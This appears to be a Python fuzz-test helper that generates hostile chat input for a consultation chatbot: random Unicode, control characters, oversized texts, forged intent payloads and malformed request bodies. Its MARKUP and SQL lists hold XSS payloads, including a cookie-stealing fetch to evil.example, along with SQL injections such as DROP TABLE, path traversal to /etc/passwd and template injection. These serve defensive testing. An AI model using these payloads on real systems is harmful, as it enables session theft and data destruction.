"""Hostile chat input for the chat fuzz (``tests/e2e/test_chat_fuzz_e2e.py``), seeded.

Classes of message (``CLASSES``): random Unicode; control, invisible and bidi
characters and lone surrogates mixed into words; texts of 10 KB to 1 MB (a few: the
channels refuse them cheaply); texts just under and over the size limit built to be
costly for NLU (one-letter words, one long token, punctuation-split tokens); HTML,
script and template fragments; SQL fragments; and forged button payloads
(``/intent{json}``) naming other consultations' slugs and questions, other citizens'
signed references, option numbers out of range, huge or odd entity values, slots, and
malformed JSON. ``envelopes`` gives malformed REST bodies and socket.io events.

What is forged comes from a ``World``: what any citizen can see of the demo
consultations, plus what the fuzz harvested from other citizens' replies.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from bot.dialogue.messages import payload

CLASSES = ("unicode", "control", "huge", "nlu_cost", "markup", "sql", "payload")
#: How often each class is drawn (huge ones are few: each is up to 1 MB on the wire).
WEIGHTS = {"unicode": 14, "control": 14, "huge": 2, "nlu_cost": 6, "markup": 12, "sql": 10,
           "payload": 42}
INTENTS = ("greet", "goodbye", "affirm", "deny", "thank", "start_consultation",
           "list_consultations", "skip", "go_back", "repeat", "pause", "resume",
           "ask_service", "help", "forget_me", "bot_challenge", "out_of_scope",
           "change_answer", "submit", "inform", "choose", "ping")
WORDS = ("park", "library", "bench", "opening", "hours", "evening", "yes", "no", "skip",
         "back", "the", "I", "would", "like", "more", "lights", "dogs", "play", "area")
MARKUP = (
    "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>", "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">click</a>", "</textarea><script>alert(1)</script>",
    "<iframe src=//evil.example></iframe>", "{{7*7}}", "${7*7}", "{% raw %}{{ config }}",
    "<b>bold</b> <i>it</i>", "[click](javascript:alert(1))", "**bold** _it_ `code`",
    "&lt;script&gt;", "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<style>body{display:none}</style>", "<!--", "]]>", "<?xml version=\"1.0\"?>",
    "{\"__proto__\": {\"admin\": true}}", "../../../../etc/passwd", "%00", "%s%s%s%n",
)
SQL = (
    "'; DROP TABLE answers; --", "1 OR 1=1", "' OR '1'='1", "\" OR \"\"=\"",
    "1; DELETE FROM participations", "' UNION SELECT id, value FROM answers --",
    "admin'--", "1' AND SLEEP(5)--", "'; SELECT pg_sleep(5); --", "x' || (SELECT 1) || '",
    "'); INSERT INTO answers VALUES (1,1,1); --", "%' AND 1=0 UNION ALL SELECT NULL --",
    "0x27", "CHAR(39)", "\\'", "''''''''", "1e309", "-1", "9" * 40,
)
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202a", "\u202b",
             "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\ufe0f",
             "\U000E0041", "\U000E0001", "\u2028", "\u2029", "\x85", "\r", "\r\n")


@dataclass(frozen=True)
class Question:
    """What a citizen sees of a question: its id, type and number of options (or scale
    range)."""

    id: str
    type: str
    options: int = 0
    low: int = 0
    high: int = 0


@dataclass
class World:
    """What forged payloads may name: the consultations (slug -> questions), and what was
    harvested from other citizens' replies (signed references behind "That didn't answer
    it" and "Pass my question on", and message ids)."""

    consultations: dict[str, list[Question]]
    refs: list[str] = field(default_factory=list)
    message_ids: list[str] = field(default_factory=list)

    @classmethod
    def from_definitions(cls, definitions: dict[str, dict[str, Any]]) -> World:
        """The world of these consultation definitions (slug -> definition)."""
        return cls({slug: [Question(q["id"], q["type"], len(q.get("options") or []),
                                    int(q.get("min", 0)), int(q.get("max", 0)))
                           for q in definition["questions"]]
                    for slug, definition in definitions.items()})


@dataclass(frozen=True)
class Hostile:
    """One hostile message: its class and text."""

    kind: str
    text: str


@dataclass(frozen=True)
class Envelope:
    """A malformed request: a REST body (bytes) or a socket.io event's data."""

    kind: str
    rest_body: bytes | None = None
    socket_data: Any = None


class HostileInput:
    """Draws hostile messages from a seeded generator.

    Args:
        rng: the random source (seeded by the caller).
        world: what forged payloads may name.
        limit: the channels' message size limit, in characters.
    """

    def __init__(self, rng: random.Random, world: World, limit: int) -> None:
        self.rng = rng
        self.world = world
        self.limit = limit
        self._makers: dict[str, Callable[[], str]] = {
            "unicode": self.unicode, "control": self.control, "huge": self.huge,
            "nlu_cost": self.nlu_cost, "markup": self.markup, "sql": self.sql,
            "payload": self.payload}

    def message(self, kind: str | None = None) -> Hostile:
        """A message of class ``kind`` (drawn by ``WEIGHTS`` when None)."""
        if kind is None:
            kind = self.rng.choices(list(WEIGHTS), weights=list(WEIGHTS.values()))[0]
        return Hostile(kind, self._makers[kind]())

    # ------------------------------------------------------------------ text classes
    def unicode(self) -> str:
        """Random code points from every plane (surrogates included), 1 to 2,000."""
        length = self.rng.choice([1, 2, 5, 20, 100, 500, self.limit])
        pick = self.rng.choice([
            lambda: self.rng.randrange(0x110000),
            lambda: self.rng.randrange(0x20, 0x3000),  # scripts, symbols, combining marks
            lambda: self.rng.randrange(0x1F300, 0x1FAFF),  # emoji
            lambda: self.rng.choice([0x0300, 0x0301, 0x0308, 0x20DD, 0x0489, 0x0E47]),  # zalgo
            lambda: self.rng.randrange(0x0590, 0x0700),  # right-to-left scripts
        ])
        return "".join(chr(pick()) for _ in range(length))

    def control(self) -> str:
        """Words with control, invisible and bidi characters and lone surrogates."""
        parts = []
        for _ in range(self.rng.randrange(1, 40)):
            roll = self.rng.random()
            if roll < 0.3:
                parts.append(chr(self.rng.choice([*range(0x20), *range(0x7F, 0xA0)])))
            elif roll < 0.5:
                parts.append(self.rng.choice(INVISIBLE) * self.rng.choice([1, 1, 3, 50]))
            elif roll < 0.6:
                parts.append(chr(self.rng.randrange(0xD800, 0xE000)))
            elif roll < 0.65:
                parts.append(self.rng.choice(["\ufffe", "\uffff", "\ufdd0", "\U0010ffff"]))
            else:
                parts.append(self.rng.choice(WORDS))
        return self.rng.choice(["", " "]).join(parts)

    def huge(self) -> str:
        """10 KB to 1 MB: mostly under 64 KiB (answered politely), some up to 1 MB (the
        channels refuse the body)."""
        size = self.rng.choice([10_000, 20_000, 40_000, 60_000, 70_000, 200_000, 1_000_000])
        unit = self.rng.choice(["x", "word ", "é", "😀", "<b>", "\x00", "a'"])
        return (unit * (size // len(unit.encode()) + 1))[:size]

    def nlu_cost(self) -> str:
        """Texts at or just over the limit, built to cost NLU and the knowledge base the
        most: one-letter words, one long token, punctuation-split tokens, a question."""
        length = self.limit + self.rng.choice([0, 0, 1, -1])
        unit = self.rng.choice(["a ", "x", "a'", "ab.", "a,", "? ", "日", "é ", "how ", "1 "])
        text = (unit * (length // len(unit) + 1))[:length]
        if self.rng.random() < 0.3:
            text = text[:-2] + " ?"
        return text

    def markup(self) -> str:
        """HTML, script, template and path fragments, alone or in a sentence."""
        fragment = self.rng.choice(MARKUP)
        return self.rng.choice([fragment, f"My answer is {fragment} thanks",
                                fragment * self.rng.randrange(1, 20)])

    def sql(self) -> str:
        """SQL fragments, alone or in a sentence."""
        fragment = self.rng.choice(SQL)
        return self.rng.choice([fragment, f"library {fragment}", f"{fragment} 2"])

    # ------------------------------------------------------------------ payloads
    def payload(self) -> str:
        """A forged ``/intent{json}``: see the module docstring."""
        return self.rng.choice([
            self._foreign_choice, self._choice_out_of_range, self._other_citizens_ref,
            self._special_choice, self._foreign_slug, self._huge_entity, self._odd_entity,
            self._slot_forgery, self._malformed, self._bare_intent, self._unknown_intent,
        ])()

    def _question(self) -> tuple[str, Question]:
        slug = self.rng.choice(sorted(self.world.consultations))
        return slug, self.rng.choice(self.world.consultations[slug])

    def _foreign_choice(self) -> str:
        """A valid-looking choice for any question of any consultation."""
        _, q = self._question()
        if q.type == "scale":
            value = str(self.rng.randrange(q.low, q.high + 1))
        elif q.options:
            value = str(self.rng.randrange(1, q.options + 1))
        else:
            value = self.rng.choice(["1", "done", "was_answer"])
        return payload("choose", choice=f"{q.id}:{value}")

    def _choice_out_of_range(self) -> str:
        _, q = self._question()
        value = self.rng.choice(["0", "-1", "99", "1000000", "9" * 50, "1.5", "1e3", " 1",
                                 "1_0", "٣", "²", "two", "", ":", "1:2", "null", "-0",
                                 str(q.high + 1), str(q.low - 1), str(q.options + 1)])
        return payload("choose", choice=f"{q.id}:{value}")

    def _other_citizens_ref(self) -> str:
        """Another citizen's signed reference, as it is, or with its id changed."""
        ref = self.rng.choice(self.world.refs) if self.world.refs else "1.0000"
        query_id, _, signature = ref.partition(".")
        forged = self.rng.choice([ref, f"{int(query_id) + 1}.{signature}", f"{query_id}.",
                                  f"{query_id}", f"{query_id}.{'0' * 20}", f"-{ref}",
                                  f"²{query_id}.{signature}", f"{query_id}.é{signature[1:]}",
                                  f"{'9' * 400}.{signature}", f"{query_id}.{signature * 50}"])
        return payload("choose", choice=self.rng.choice(["missed:", "forward:"]) + forged)

    def _special_choice(self) -> str:
        _, q = self._question()
        return payload("choose", choice=self.rng.choice([
            f"change:{q.id}", f"{q.id}:was_answer", f"{q.id}:done", "follow_up:yes",
            "follow_up:no", "change:", "missed:", "forward:"]))

    def _foreign_slug(self) -> str:
        slug = self.rng.choice([*self.world.consultations, "no-such-consultation", "",
                                "../etc", "library-hours-2027' OR '1'='1", "LIBRARY-HOURS-2027"])
        return payload(self.rng.choice(["start_consultation", "choose"]), consultation=slug)

    def _huge_entity(self) -> str:
        """An entity value that fills the message up to about the size limit."""
        room = self.limit - 40
        value = self.rng.choice(["x" * room, "1" * room, ("é" * room)[:room],
                                 ("\\u0000" * room)[: room - room % 6]])
        name = self.rng.choice(["choice", "consultation"])
        text = f'/{self.rng.choice(["choose", "start_consultation"])}{{"{name}":"{value}"}}'
        return text[: self.limit]

    def _odd_entity(self) -> str:
        value = self.rng.choice([None, True, 1, -1, 1.5, 10**30, [], [1, 2], {}, {"a": {"b": 1}},
                                 "\\ud800", "\u0000", "\u202e", "", " ", "a" * 300])
        name = self.rng.choice(["choice", "consultation"])
        body = json.dumps({name: value})
        if value == "\\ud800":
            body = f'{{"{name}":"\\ud800"}}'  # a lone surrogate as a JSON escape
        return f"/{self.rng.choice(['choose', 'start_consultation'])}{body}"

    def _slot_forgery(self) -> str:
        """Entities named after the conversation's slots: they are not set from entities."""
        state = json.dumps({"mode": "participation", "participation_id": self.rng.randrange(
            1, 50)})
        return "/choose" + json.dumps({self.rng.choice(["flow_state", "in_flow",
                                                        "erase_conversation"]): state,
                                       "choice": "x:1"})

    def _malformed(self) -> str:
        return self.rng.choice([
            '/choose{"choice":', '/choose{choice: 1}', "/choose{", "/choose}", "/choose{}",
            '/choose{"choice":"a"}{"choice":"b"}', "/choose[1,2]", '/choose"x"', "/",
            "//", "/ choose", "/choose@", "/choose@x", "/choose@2{\"choice\":\"visits:1\"}",
            "/affirm@0.0", "/affirm@1e9", "/forget_me@-1", '/choose{"choice":"x"' + "}" * 50,
            "/" + "choose" * 100, '/choose{"' + '{"a":' * 200 + "1" + "}" * 200 + '}'])

    def _bare_intent(self) -> str:
        return "/" + self.rng.choice(INTENTS)

    def _unknown_intent(self) -> str:
        return self.rng.choice(["/nlu_fallback", "/admin", "/__init__", "/restart",
                                "/session_start", "/action_flow", "/utter_help",
                                '/admin{"role":"admin"}', "/greet" + "x" * 100])

    # ------------------------------------------------------------------ envelopes
    def envelopes(self, sender: str) -> list[Envelope]:
        """Malformed requests, each kind once: REST bodies and socket.io event data."""
        good = {"sender": sender, "message": "hello"}
        bodies: list[tuple[str, Any]] = [
            ("not json", b"{not json"), ("empty body", b""), ("json list", b"[1,2,3]"),
            ("json string", b'"hello"'), ("json null", b"null"),
            ("no sender", {"message": "hello"}), ("no message", {"sender": sender}),
            ("sender number", {"sender": 12345, "message": "hello"}),
            ("sender object", {"sender": {"id": 1}, "message": "hello"}),
            ("sender with control", {"sender": sender + "\x00", "message": "hello"}),
            ("sender surrogate", {"sender": sender + "\ud800", "message": "hello"}),
            ("sender 10k", {"sender": "s" * 10_000, "message": "hello"}),
            ("message number", {**good, "message": 42}),
            ("message list", {**good, "message": ["a", "b"]}),
            ("message null", {**good, "message": None}),
            ("metadata string", {**good, "metadata": "{not json"}),
            ("metadata list", {**good, "metadata": [1, 2]}),
            ("metadata huge", {**good, "metadata": {"message_id": "m" * 5000,
                                                    "channel": "c" * 5000, "x": "y" * 20_000}}),
            ("metadata channel telegram", {**good, "metadata": {"channel": "telegram"}}),
            ("metadata message id object", {**good, "metadata": {"message_id": {"a": 1}}}),
            ("input_channel forged", {**good, "input_channel": "i" * 5000}),
            ("deep nesting", b'{"sender": "' + sender.encode() + b'", "message": "hi", '
                             b'"metadata": ' + b"[" * 5000 + b"]" * 5000 + b"}"),
            ("big number", b'{"sender": "' + sender.encode() + b'", "message": "hi", '
                           b'"metadata": {"message_id": 1' + b"0" * 400 + b"}}"),
            ("duplicate keys", b'{"sender": "a", "sender": "' + sender.encode() +
                               b'", "message": "hi"}'),
        ]
        envelopes = [Envelope(kind, rest_body=body if isinstance(body, bytes)
                              else json.dumps(body).encode()) for kind, body in bodies]
        socket: list[tuple[str, Any]] = [
            ("data string", "hello"), ("data list", ["hello"]), ("data null", None),
            ("data number", 5), ("message number", {"message": 42}),
            ("message object", {"message": {"text": "hi"}}),
            ("session id object", {"message": "hi", "session_id": {"a": 1}}),
            ("session id 10k", {"message": "hi", "session_id": "s" * 10_000}),
            ("metadata bad json", {"message": "hi", "metadata": "{not json"}),
            ("metadata list", {"message": "hi", "metadata": [1, 2]}),
            ("two arguments", ("hi", "there")),
        ]
        envelopes += [Envelope(kind, socket_data=data) for kind, data in socket]
        return envelopes
